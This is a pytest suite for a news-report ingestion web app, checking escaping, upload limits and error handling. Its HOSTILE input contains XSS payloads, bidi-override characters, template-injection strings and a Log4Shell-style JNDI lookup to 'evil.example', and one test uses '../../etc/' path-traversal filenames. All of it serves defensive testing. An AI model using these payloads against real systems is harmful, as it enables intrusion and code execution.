import re
import time

import pytest

pytestmark = pytest.mark.usefixtures("fresh")
BIDI = "\u202e"
HOSTILE = (
    "<script>alert('title')</script> Town falls\n\nBy <img src=x onerror=alert(1)>\n\n"
    "Rebel fighters captured the town of Palmyra on Sunday, <script>alert(1)</script> the army said. "
    f'Islamic State {BIDI}killed 12 soldiers in Palmyra{BIDI} on Monday, "><svg onload=alert(2)> residents said. '
    "{{ 7 * 7 }} {% raise %} ${jndi:ldap://evil.example/a}\n"
)


def bring_in(browser, token, *, text="", files=None, **form):
    data = {
        "csrf": token(browser, "/read"),
        "text": text,
        "date": "2016-03-28",
        "outlet": "The <b>Bold</b> Times",
        **form,
    }
    answer = browser.post("/read", data=data, files=files)
    assert answer.status_code == 303, answer.text
    for _ in range(600):
        page = browser.get(answer.headers["location"]).text
        if "hx-trigger" not in page:
            return page
        time.sleep(0.1)
    raise AssertionError(page)


def inert(page):
    """No tag of the report's, and no control that turns the writing round."""
    assert "<script>alert" not in page
    assert "<img" not in page
    assert "onload=alert(2)>" not in page.replace("&gt;", "")
    assert "<svg onload" not in page
    assert "<b>Bold</b>" not in page
    assert BIDI not in page
    assert "49" not in re.sub(r" (?:d|points)=\"[^\"]*\"|\d{3,}|[0-9a-f]{8,}|\d+\.\d+", "", page[page.index("<main") :])


def test_pasted_text_is_read_and_shown(browser, token):
    page = bring_in(browser, token, text="Government troops seized the town of Raqqa on Sunday, the army said.")
    assert "1 new report" in page
    link = re.search(r'href="(/reports/rpt_\w+)"', page).group(1)
    assert "<mark" in browser.get(link).text


def test_files_are_read(browser, token):
    files = [
        ("files", (f"../../etc/{name}", f"The army took Palmyra on Monday, day {name}.".encode(), "text/plain"))
        for name in "ab"
    ]
    assert "2 new reports" in bring_in(browser, token, files=files)


def test_what_cannot_be_read_is_told_and_nothing_stored(browser, token):
    page = bring_in(browser, token, files=[("files", ("a.bin", b"\x00\x01\x02\xff" * 50, "application/octet-stream"))])
    assert "binary, not text" in page
    assert "/tmp" not in page  # noqa: S108 (that is what must not be told)
    assert "17 reports" in browser.get("/reports").text


def test_nothing_sent_is_an_error(browser, token):
    assert browser.post("/read", data={"csrf": token(browser, "/read"), "text": " "}).status_code == 422


def test_hostile_text_is_inert_on_every_page_and_in_json(browser, token):
    done = bring_in(browser, token, text=HOSTILE)
    inert(done)
    report = re.search(r"/reports/(rpt_\w+)", done).group(1)
    found = browser.get(f"/api/v1/reports/{report}").json()
    assert "<script>alert(1)</script>" in found["text"]
    assert found["claims"], "the sentences must be read, or nothing is shown that could do harm"
    claim = found["claims"][0]
    pages = [
        f"/reports/{report}",
        "/reports",
        "/search?q=captured",
        "/events",
        "/review?by=score",
        "/places",
        "/disputes",
        "/",
    ]
    pages += [
        f"/claims/{claim['id']}",
        f"/review?claim={claim['id']}",
        f"/events/{claim['event_id']}",
        "/places/gn:163808",
    ]
    for path in pages:
        answer = browser.get(path)
        assert answer.status_code == 200, path
        inert(answer.text)
    plain = browser.get(f"/api/v1/reports/{report}")
    assert plain.headers["content-type"] == "application/json"
    assert plain.headers["x-content-type-options"] == "nosniff"


def test_writing_that_is_turned_round_is_shown_as_such(browser, sample):
    store = browser.app.state.desk.record._store
    made = sample.report(f"The army {BIDI}took{BIDI} the town.", outlet=f"The {BIDI}Times", title=f"A {BIDI}title")
    store.add_report(made, sample.Reading(report_id=made.id, claims=(), sentences=()), ())
    for path in (f"/reports/{made.id}", "/reports"):
        page = browser.get(path).text
        assert BIDI not in page
        assert "RLO</span>" in page


@pytest.mark.slow
def test_a_line_of_five_megabytes_is_read_and_shown_in_parts(browser, token):
    line = "The army took Palmyra on Monday. " + "x" * 5_000_000
    page = bring_in(browser, token, files=[("files", ("long.txt", line.encode(), "text/plain"))])
    report = re.search(r'href="(/reports/rpt_\w+)"', page).group(1)
    shown = browser.get(report)
    assert shown.status_code == 200
    assert len(shown.text) < 200_000
    assert "Next part" in shown.text
    assert browser.get(f"{report}?part=999999").status_code == 200


def test_an_upload_over_the_limit_is_refused(make_client, token):
    client = make_client(max_bytes=10_000)
    found = client.post("/read", data={"csrf": token(client, "/read")}, files={"files": ("a.txt", b"x" * 20_000)})
    assert (found.status_code, found.headers["content-type"]) == (413, "application/problem+json")
